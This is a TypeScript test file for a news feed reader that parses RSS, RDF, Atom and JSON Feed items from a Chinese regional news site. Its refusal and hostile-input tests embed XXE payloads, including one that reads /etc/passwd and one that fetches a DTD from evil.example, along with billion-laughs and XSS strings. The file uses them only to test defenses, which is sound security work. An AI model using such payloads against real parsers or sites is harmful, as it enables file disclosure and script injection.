import { readFileSync } from 'node:fs';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { IngestError } from '../../src/ingest/errors';
import type { IngestErrorCode } from '../../src/ingest/errors';
import { readFeedDocument, sniffFeed } from '../../src/ingest/readers/feed';
import { ingestErrorOf } from './ingest/helpers';

const FIXTURES = new URL('../fixtures/ingest/', import.meta.url);

function fixture(name: string): { text: string; url: string } {
  const url = new URL(name, FIXTURES);
  return {
    text: readFileSync(fileURLToPath(url), 'utf8'),
    url: pathToFileURL(fileURLToPath(url)).href,
  };
}

function readFixture(name: string, docUrl?: string) {
  const { text, url } = fixture(name);
  return readFeedDocument(text, docUrl ?? url);
}

const errorOf = ingestErrorOf;

function expectCode(run: () => unknown, code: IngestErrorCode): IngestError {
  const error = errorOf(run);
  expect(error.code).toBe(code);
  return error;
}

const RSS_HEAD =
  '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>示例</title>';
const RSS_TAIL = '</channel></rss>';
const rss = (items: string): string => `${RSS_HEAD}${items}${RSS_TAIL}`;
const DOC = 'https://news.example.cn/feeds/binzhou.xml';

describe('RSS 2.0 (feed-rss.xml)', () => {
  const doc = readFixture('feed-rss.xml');

  it('is read as RSS with the channel title and every item', () => {
    expect(doc.kind).toBe('rss');
    expect(doc.title).toBe('滨州新闻（示例）');
    expect(doc.skipped).toEqual([]);
    expect(doc.items).toHaveLength(3);
  });

  it('content:encoded is the body and description becomes the plain-text summary', () => {
    expect(doc.items[0]).toEqual({
      guid: 'binzhou-2023-0506-001',
      guidIsUrl: false,
      url: 'https://news.example.cn/binzhou/2023/0506/chungeng.html',
      title: '惠民县春耕生产有序推进',
      datePublished: '2023-05-06T10:30:13+08:00',
      contentHtml:
        '<p>　　示例内容：5月5日，惠民县各乡镇抢抓农时，春耕生产有序推进。</p>\n' +
        '<figure><img src="https://news.example.cn/images/chungeng.jpg" alt="春耕"><figcaption>示例图片说明</figcaption></figure>\n' +
        '<p>　　示例内容：第二段。</p>',
      summary: '示例内容：惠民县\u00a0春耕生产有序推进。',
      image: 'https://news.example.cn/images/chungeng.jpg',
      authors: ['刘兵', '李子路'],
      tags: ['惠民', '滨州'],
      language: 'zh-CN',
    });
  });

  it('a permalink guid is the url; a GMT pubDate is shifted to +08:00; author names come from <author>', () => {
    expect(doc.items[1]).toEqual({
      guid: 'https://news.example.cn/binzhou/2023/0507/qiaoliang.html',
      guidIsUrl: true,
      url: 'https://news.example.cn/binzhou/2023/0507/qiaoliang.html',
      title: '黄河大桥合龙 & 通车在即',
      datePublished: '2023-05-07T08:00:00+08:00',
      contentHtml: '示例内容：黄河大桥今日合龙。',
      image: 'https://news.example.cn/images/qiaoliang-thumb.jpg',
      authors: ['王晓'],
      tags: ['交通'],
      language: 'zh-CN',
    });
  });

  it('dc:date without a zone is Beijing time; repeated categories are one tag', () => {
    expect(doc.items[2]).toEqual({
      guid: 'dongzao-0508',
      guidIsUrl: false,
      url: 'https://news.example.cn/binzhou/2023/0508/dongzao.html',
      title: '沾化冬枣示例新闻',
      datePublished: '2023-05-08T08:00:00+08:00',
      contentHtml: '<p>示例内容：沾化冬枣。</p>',
      authors: ['张三'],
      tags: ['滨州'],
      language: 'zh-CN',
    });
  });

  it('isPermaLink="false" keeps an http guid from being the url; media:content images count', () => {
    const { items } = readFeedDocument(
      rss(
        '<item xmlns:media="http://search.yahoo.com/mrss/"><guid isPermaLink="false">https://news.example.cn/a</guid><title>t</title>' +
          '<media:content url="https://img.example.cn/a.mp4" type="video/mp4"/><media:content url="https://img.example.cn/a.jpg" medium="image"/></item>',
      ),
      DOC,
    );
    expect(items[0]).toEqual({
      guid: 'https://news.example.cn/a',
      guidIsUrl: false,
      title: 't',
      image: 'https://img.example.cn/a.jpg',
    });
  });

  it('relative links and body URLs resolve against the document URL; non-http links are dropped', () => {
    const { items } = readFeedDocument(
      rss(
        '<item><title>t</title><link>../binzhou/1.html</link><content:encoded><![CDATA[<p><a href="2.html">二</a><img src="/img/3.png"></p>]]></content:encoded></item>' +
          '<item><title>u</title><link>javascript:alert(1)</link></item>',
      ),
      DOC,
    );
    expect(items[0]).toEqual({
      title: 't',
      url: 'https://news.example.cn/binzhou/1.html',
      contentHtml:
        '<p><a href="https://news.example.cn/feeds/2.html">二</a><img src="https://news.example.cn/img/3.png"></p>',
    });
    expect(items[1]).toEqual({ title: 'u' });
  });

  it('an item with nothing usable is reported in skipped, not kept', () => {
    const doc = readFeedDocument(
      rss('<item><link>javascript:void(0)</link></item><item><title>有</title></item>'),
      DOC,
    );
    expect(doc.items).toEqual([{ title: '有' }]);
    expect(doc.skipped).toEqual([
      '<item> 1 has no usable field (no id, link, title, date or content)',
    ]);
  });

  it('an unparseable date is left out, the item is kept', () => {
    const { items } = readFeedDocument(
      rss('<item><title>t</title><pubDate>昨天</pubDate></item>'),
      DOC,
    );
    expect(items).toEqual([{ title: 't' }]);
  });

  it('hostile body HTML is passed through unchanged for the pipeline to sanitise', () => {
    const { items } = readFixture('feed-hostile.xml');
    expect(items[0]?.contentHtml).toBe(
      '<p onclick="alert(1)">示例内容</p><script>alert("x")</script>' +
        '<img src="https://img.example.cn/x.png" onerror="alert(1)"><a href="javascript:alert(1)">点我</a>' +
        '<iframe src="https://evil.example/"></iframe>',
    );
    expect(items[0]?.guidIsUrl).toBe(true);
  });
});

describe('RDF / RSS 1.0 (feed-rdf.xml)', () => {
  it('reads items with rdf:about as guid, content:encoded, dc:creator, dc:date and dc:subject', () => {
    const doc = readFixture('feed-rdf.xml');
    expect(doc.kind).toBe('rdf');
    expect(doc.title).toBe('滨州新闻 RDF（示例）');
    expect(doc.items).toEqual([
      {
        guid: 'https://news.example.cn/binzhou/rdf-1.html',
        guidIsUrl: true,
        url: 'https://news.example.cn/binzhou/rdf-1.html',
        title: '示例内容：RDF 条目',
        datePublished: '2023-05-06T10:30:13+08:00',
        contentHtml: '<p>示例内容：正文。</p>',
        summary: '示例摘要',
        authors: ['刘兵'],
        tags: ['滨州'],
        language: 'zh-CN',
      },
    ]);
  });
});

describe('Atom 1.0 with xml:base (feed-atom-xml-base.xml)', () => {
  const doc = readFixture('feed-atom-xml-base.xml');

  it('is read as Atom; an html title becomes plain text', () => {
    expect(doc.kind).toBe('atom');
    expect(doc.title).toBe('滨州新闻 <示例>');
    expect(doc.skipped).toEqual([]);
    expect(doc.items).toHaveLength(3);
  });

  it('entry, link and content bases nest: links and html content URLs resolve against the base in scope', () => {
    expect(doc.items[0]).toEqual({
      guid: 'tag:news.example.cn,2023:binzhou-1',
      guidIsUrl: false,
      // feed base https://news.example.cn/binzhou/ + entry 2023/0506/
      url: 'https://news.example.cn/binzhou/2023/0506/chungeng.html',
      title: '惠民县春耕忙',
      datePublished: '2023-05-06T09:00:00+08:00',
      dateModified: '2023-05-06T10:00:00+08:00',
      // content base: + media/; ../more.html climbs back out of it; #top stays a fragment
      contentHtml:
        '<p>示例内容：春耕。<img src="https://news.example.cn/binzhou/2023/0506/media/photo.jpg" alt="春耕"> ' +
        '<a href="https://news.example.cn/binzhou/2023/0506/more.html?a=1&amp;b=2">更多</a> ' +
        '<a href="https://other.example.cn/x">外链</a> <a href="#top">顶部</a></p>',
      summary: '示例摘要：惠民县春耕。',
      // the enclosure link's own xml:base="/images/"
      image: 'https://news.example.cn/images/chungeng.jpg',
      authors: ['刘兵'],
      // label when there is one, else term
      tags: ['惠民', '滨州'],
      language: 'zh-CN',
    });
  });

  it('xhtml content is serialised as HTML with content and div bases both applied; only <updated> dates both fields', () => {
    expect(doc.items[1]).toEqual({
      guid: 'https://news.example.cn/binzhou/2023/0507/qiaoliang.html',
      guidIsUrl: true,
      url: 'https://news.example.cn/binzhou/2023/0507/qiaoliang.html',
      title: '黄河大桥合龙',
      datePublished: '2023-05-07T16:00:00+08:00',
      dateModified: '2023-05-07T16:00:00+08:00',
      contentHtml:
        '<p>示例内容：大桥<em>合龙</em> &amp; 通车。</p>' +
        '<p><img src="https://news.example.cn/binzhou/2023/0507/photos/bridge.png" alt="大桥"><br>' +
        '<a href="https://news.example.cn/binzhou/">滨州频道</a><span></span></p>',
      // no author of its own: the feed's
      authors: ['滨州新闻编辑部'],
      language: 'zh-CN',
    });
  });

  it('an absolute entry base replaces the feed base; xhtml titles become text; text content is contentText', () => {
    expect(doc.items[2]).toEqual({
      guid: 'tag:news.example.cn,2023:binzhou-3',
      guidIsUrl: false,
      url: 'https://m.example.cn/bz/2023/dongzao.html',
      title: '沾化冬枣上市',
      datePublished: '2023-05-08T07:30:00+08:00',
      contentText: '示例内容：沾化冬枣上市。\n\n第二段。',
      authors: ['滨州新闻编辑部'],
      language: 'zh-CN',
    });
  });

  it('a prefixed Atom document (atom:feed) resolves its bases too', () => {
    const xml =
      '<atom:feed xmlns:atom="http://www.w3.org/2005/Atom" xml:base="https://a.example.cn/x/">' +
      '<atom:title>t</atom:title><atom:entry xml:base="y/"><atom:id>1</atom:id><atom:title>e</atom:title>' +
      '<atom:link href="z.html"/><atom:content type="html">&lt;img src="i.png"&gt;</atom:content></atom:entry></atom:feed>';
    const { items } = readFeedDocument(xml, DOC);
    expect(items).toEqual([
      {
        guid: '1',
        guidIsUrl: false,
        title: 'e',
        url: 'https://a.example.cn/x/y/z.html',
        contentHtml: '<img src="https://a.example.cn/x/y/i.png">',
      },
    ]);
  });

  it('without xml:base, links resolve against the document URL', () => {
    const xml =
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>' +
      '<entry><id>1</id><title>e</title><link rel="alternate" href="a.html"/><link rel="related" href="b.html"/></entry></feed>';
    expect(readFeedDocument(xml, DOC).items[0]?.url).toBe('https://news.example.cn/feeds/a.html');
  });

  it('an entry feedsmith drops (nothing it knows) does not shift the others onto the wrong bases', () => {
    const xml =
      '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://a.example.cn/"><title>t</title>' +
      '<entry><x:unknown xmlns:x="urn:x">?</x:unknown></entry>' +
      '<entry xml:base="one/"><id>1</id><link href="p.html"/></entry>' +
      '<entry xml:base="two/"><id>2</id><link href="p.html"/></entry></feed>';
    const { items } = readFeedDocument(xml, DOC);
    expect(items.map((i) => i.url)).toEqual([
      'https://a.example.cn/one/p.html',
      'https://a.example.cn/two/p.html',
    ]);
  });

  it('out-of-line content (src) is no body; a summary of type html is plain text', () => {
    const xml =
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><id>1</id>' +
      '<content src="https://a.example.cn/body.html" type="text/html"/>' +
      '<summary type="html">&lt;p&gt;一&lt;/p&gt;&lt;p&gt;二 &amp;amp; 三&lt;/p&gt;</summary></entry></feed>';
    expect(readFeedDocument(xml, DOC).items).toEqual([
      { guid: '1', guidIsUrl: false, summary: '一\n二 & 三' },
    ]);
  });
});

describe('JSON Feed 1.0 (feed-json-1.0.json)', () => {
  const doc = readFixture('feed-json-1.0.json', 'https://weibo.example.cn/feeds/binzhou.json');

  it('reads every item; a completely empty one is reported in skipped', () => {
    expect(doc.kind).toBe('json-feed');
    expect(doc.title).toBe('滨州发布（示例）');
    expect(doc.items).toHaveLength(4);
    expect(doc.skipped).toEqual([
      'item 5 has no usable field (no id, link, title, date or content)',
    ]);
  });

  it('1.0 author becomes authors; a date without seconds is read; relative URLs resolve against the document', () => {
    expect(doc.items[0]).toEqual({
      guid: '1001',
      guidIsUrl: false,
      url: 'https://weibo.example.cn/binzhou/1001',
      title: '滨州举办示例活动',
      datePublished: '2018-01-05T08:00:00+08:00',
      contentHtml:
        '<p>示例内容：活动现场。</p><img src="https://weibo.example.cn/img/1001.jpg" alt="现场">',
      image: 'https://weibo.example.cn/img/1001.jpg',
      authors: ['李子路'],
      tags: ['滨州', '活动'],
    });
  });

  it('a micro-post without title is kept with title undefined; a numeric id is a string; the feed author is inherited', () => {
    expect(doc.items[1]).toEqual({
      guid: '1002',
      guidIsUrl: false,
      datePublished: '2018-01-05T09:15:00+08:00',
      contentText: '示例内容：今日无标题微博。',
      authors: ['滨州发布'],
    });
    expect(doc.items[1]).not.toHaveProperty('title');
  });

  it('only date_modified: it is also the publication date', () => {
    expect(doc.items[2]).toEqual({
      guid: '1003',
      guidIsUrl: false,
      title: '仅有修改时间',
      datePublished: '2018-01-06T18:00:00+08:00',
      dateModified: '2018-01-06T18:00:00+08:00',
      summary: '示例内容：摘要。',
      authors: ['滨州发布'],
    });
  });

  it('wrong-typed optional fields are dropped, never the item', () => {
    expect(doc.items[3]).toEqual({
      guid: '1004',
      guidIsUrl: false,
      contentHtml: '<p>示例内容：类型错误的字段被丢弃，条目保留。</p>',
      authors: ['赵六'],
    });
  });
});

describe('JSON Feed 1.1 (feed-json-1.1.json)', () => {
  const doc = readFixture('feed-json-1.1.json', 'https://news.example.cn/feeds/binzhou.json');

  it('passes the _news extension through and keeps item language over the feed language', () => {
    expect(doc.items[0]).toEqual({
      guid: 'bz-20230506-01',
      guidIsUrl: false,
      url: 'https://news.example.cn/binzhou/2023/0506/chungeng.html',
      title: '惠民县春耕生产有序推进',
      datePublished: '2023-05-06T10:30:13+08:00',
      dateModified: '2023-05-06T11:00:00+08:00',
      contentHtml: '<p>　　示例内容：惠民县春耕。</p>',
      summary: '示例内容：惠民县各乡镇抢抓农时。',
      image: 'https://news.example.cn/images/chungeng.jpg',
      imageAlt: '惠民县农民在田间春耕',
      authors: ['刘兵', '李子路'],
      tags: ['惠民', '滨州'],
      language: 'zh-Hans-CN',
      kicker: '抢抓农时',
      subtitles: ['示例副题一', '示例副题二'],
      source: '滨州日报',
      editor: '阚金剑',
      credit: '（滨州日报记者 刘兵 李子路 报道）',
      city: 'binzhou',
    });
  });

  it('banner_image stands in for image; wrong-typed _news fields are dropped; feed authors and language are inherited', () => {
    expect(doc.items[1]).toEqual({
      guid: 'bz-20230507-01',
      guidIsUrl: false,
      title: '黄河大桥合龙',
      datePublished: '2023-05-07T16:00:00+08:00',
      contentText: '示例内容：大桥合龙。',
      image: 'https://news.example.cn/images/qiaoliang-banner.jpg',
      subtitles: ['单行副题'],
      authors: ['滨州新闻编辑部'],
      language: 'zh-CN',
    });
  });

  it('an http(s) id is flagged as a URL; items that are not an array read as none', () => {
    const base = '{"version":"https://jsonfeed.org/version/1.1","title":"t",';
    expect(
      readFeedDocument(`${base}"items":[{"id":"https://a.example.cn/1","title":"x"}]}`, DOC).items,
    ).toEqual([{ guid: 'https://a.example.cn/1', guidIsUrl: true, title: 'x' }]);
    expect(readFeedDocument(`${base}"items":"oops"}`, DOC).items).toEqual([]);
  });
});

describe('documents that are refused', () => {
  it('malformed XML: malformed-xml with the line', () => {
    const error = expectCode(() => readFixture('feed-malformed.xml'), 'malformed-xml');
    expect(error.message).toMatch(/line 8\b/);
    expect(error.message).toMatch(/title/);
  });

  it('line numbers count stripped leading blank lines', () => {
    const error = expectCode(
      () => readFeedDocument(`\n\n${rss('<item><title>t</item>')}`, DOC),
      'malformed-xml',
    );
    expect(error.message).toMatch(/line 3\b/);
  });

  it('billion laughs: entity-expansion, before any parser runs', () => {
    expectCode(() => readFixture('feed-billion-laughs.xml'), 'entity-expansion');
  });

  it('external and parameter entities: entity-expansion', () => {
    const xxe =
      '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
      rss('<item><title>&xxe;</title></item>').replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '',
      );
    expectCode(() => readFeedDocument(xxe, DOC), 'entity-expansion');
    const param =
      '<!DOCTYPE rss [ <!-- ]> --> <!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p; ]><rss version="2.0"><channel/></rss>';
    expectCode(() => readFeedDocument(param, DOC), 'entity-expansion');
    // A DOCTYPE declaring entities is refused whatever the root element.
    expectCode(
      () => readFeedDocument('<!DOCTYPE html [<!ENTITY a "b">]><html>&a;</html>', DOC),
      'entity-expansion',
    );
  });

  it('a DOCTYPE without entity declarations (RSS 0.91) is fine', () => {
    const xml =
      '<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n' +
      '<rss version="0.91"><channel><title>t</title><item><title>示例内容</title><link>https://a.example.cn/1</link></item></channel></rss>';
    expect(readFeedDocument(xml, DOC).items).toEqual([
      { title: '示例内容', url: 'https://a.example.cn/1' },
    ]);
  });

  it('JSON that is not a feed, and what is neither XML nor JSON: not-a-feed', () => {
    expectCode(() => readFixture('feed-not-a-feed.json'), 'not-a-feed');
    expectCode(() => readFeedDocument('{"a":1}', DOC), 'not-a-feed');
    expectCode(() => readFeedDocument('[1,2]', DOC), 'not-a-feed');
    expectCode(
      () => readFeedDocument('{"version": "https://jsonfeed.org/version/1.1",', DOC),
      'not-a-feed',
    );
    expectCode(() => readFeedDocument('示例内容：一段文字', DOC), 'not-a-feed');
    expectCode(() => readFeedDocument('', DOC), 'not-a-feed');
  });

  it('an HTML page (valid XML or not) and other XML: not-a-feed', () => {
    expectCode(() => readFixture('page-portal.html'), 'not-a-feed');
    expectCode(
      () =>
        readFeedDocument(
          '<!DOCTYPE html><html><head><title>t</title></head><body><br></body></html>',
          DOC,
        ),
      'not-a-feed',
    );
    expectCode(
      () => readFeedDocument('<?xml version="1.0"?><opml version="2.0"><body/></opml>', DOC),
      'not-a-feed',
    );
  });

  it('an <rss> root without a channel: not-a-feed', () => {
    expectCode(() => readFeedDocument('<rss version="2.0"><nothing/></rss>', DOC), 'not-a-feed');
  });

  it('errors are IngestErrors with Chinese for the editor', () => {
    const error = expectCode(() => readFixture('feed-billion-laughs.xml'), 'entity-expansion');
    expect(error.chinese).toMatch(/^XML 含有实体扩展攻击，已拒绝（/);
  });
});

describe('sniffFeed', () => {
  it.each([
    ['feed-rss.xml', 'xml-feed'],
    ['feed-atom-xml-base.xml', 'xml-feed'],
    ['feed-rdf.xml', 'xml-feed'],
    ['feed-malformed.xml', 'xml-feed'],
    ['feed-billion-laughs.xml', 'xml-feed'],
    ['feed-json-1.0.json', 'json-feed'],
    ['feed-json-1.1.json', 'json-feed'],
    ['feed-not-a-feed.json', undefined],
    ['page-portal.html', undefined],
  ])('%s → %s', (name, kind) => {
    expect(sniffFeed(fixture(name).text)).toBe(kind);
  });

  it('never throws, and tolerates a BOM and leading whitespace', () => {
    expect(sniffFeed('\ufeff\n  <rss version="2.0"><channel/></rss>')).toBe('xml-feed');
    expect(
      sniffFeed('<!-- c --><?pi x?><atom:feed xmlns:atom="http://www.w3.org/2005/Atom"/>'),
    ).toBe('xml-feed');
    for (const text of [
      '',
      '{',
      '<',
      '<!--',
      '<!DOCTYPE',
      '<?xml',
      'plain',
      '{"a":1}',
      '[]',
      'null',
    ]) {
      expect(sniffFeed(text)).toBeUndefined();
    }
  });
});

describe('size and hostile input', () => {
  it('a feed of 5,000 items (about 10 MB) parses', () => {
    const paragraph = '<p>　　示例内容：滨州市惠民县春耕生产有序推进，各乡镇抢抓农时。</p>'.repeat(
      30,
    );
    const items: string[] = [];
    for (let i = 0; i < 5000; i++) {
      items.push(
        `<item><title>示例新闻 ${i}</title><link>https://news.example.cn/binzhou/${i}.html</link>` +
          `<guid isPermaLink="false">bz-${i}</guid><pubDate>Sat, 06 May 2023 10:30:13 +0800</pubDate>` +
          `<description>示例摘要 ${i}</description><content:encoded><![CDATA[${paragraph}]]></content:encoded>` +
          `<category>滨州</category></item>`,
      );
    }
    const xml = rss(items.join('\n'));
    expect(xml.length).toBeGreaterThan(5_000_000);
    expect(Buffer.byteLength(xml)).toBeGreaterThan(9_000_000);
    const doc = readFeedDocument(xml, DOC);
    expect(doc.items).toHaveLength(5000);
    expect(doc.items[4999]).toMatchObject({
      guid: 'bz-4999',
      datePublished: '2023-05-06T10:30:13+08:00',
    });
  });

  it('2 MB of whitespace or &amp; inside a description is read in linear time', () => {
    const spaces = ' \n\t'.repeat(700_000);
    const doc1 = readFeedDocument(
      rss(`<item><title>t</title><description>甲${spaces}乙</description></item>`),
      DOC,
    );
    expect(doc1.items[0]?.contentHtml?.length).toBe(spaces.length + 2);

    const amps = '&amp;'.repeat(400_000);
    const doc2 = readFeedDocument(
      rss(`<item><title>t</title><description>${amps}</description></item>`),
      DOC,
    );
    expect(doc2.items[0]?.contentHtml).toBe('&'.repeat(400_000));

    const doc3 = readFeedDocument(
      rss(
        `<item><title>t</title><description>x</description><content:encoded>${amps}</content:encoded></item>`,
      ),
      DOC,
    );
    expect(doc3.items[0]?.contentHtml?.length).toBe(400_000);
  });

  it('the same in Atom (the xml:base pass included)', () => {
    const amps = '&amp;amp;'.repeat(200_000);
    const xml =
      `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://a.example.cn/"><title>t</title>` +
      `<entry><id>1</id><link href="x.html"/><content type="html">&lt;a href="y.html"&gt;${amps}&lt;/a&gt;</content>` +
      `<summary>${' '.repeat(2_000_000)}s</summary></entry></feed>`;
    const [item] = readFeedDocument(xml, DOC).items;
    expect(item?.url).toBe('https://a.example.cn/x.html');
    expect(item?.summary).toBe('s');
    expect(item?.contentHtml?.startsWith('<a href="https://a.example.cn/y.html">&amp;&amp;')).toBe(
      true,
    );
  });

  it('a 2 MB prolog comment and a deep nest of elements do not blow up', () => {
    const comment = `<!--${'-x'.repeat(1_000_000)}-->`;
    expect(
      sniffFeed(`${comment}<rss version="2.0"><channel><title>t</title></channel></rss>`),
    ).toBe('xml-feed');
    const deep = `${'<b>'.repeat(20_000)}深${'</b>'.repeat(20_000)}`;
    const doc = readFeedDocument(
      rss(
        `<item><title>t</title><link>a.html</link><content:encoded><![CDATA[<a href="r.html">${deep}</a>]]></content:encoded></item>`,
      ),
      DOC,
    );
    expect(doc.items[0]?.contentHtml).toContain('href="https://news.example.cn/feeds/r.html"');
  });
});
